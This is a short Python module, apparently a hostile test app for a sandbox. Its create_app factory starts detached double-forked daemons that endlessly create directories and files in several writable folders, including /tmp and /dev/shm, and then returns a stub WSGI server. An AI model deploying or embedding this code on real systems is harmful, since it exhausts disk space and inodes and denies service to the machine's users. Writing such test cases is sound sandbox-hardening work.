"""Leaves daemons behind that make files in every writable folder."""

import itertools
import os


def make(folder):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in itertools.count():
        try:
            os.mkdir(f"{folder}/{os.getpid()}-{number}")
            os.close(os.open(f"{folder}/{os.getpid()}-{number}/x", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass


def create_app(config=None):
    for folder in ("/box/data", "/box/data", "/tmp", "/dev/shm", "/box/app"):
        make(folder)

    def server(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"no"]

    return server
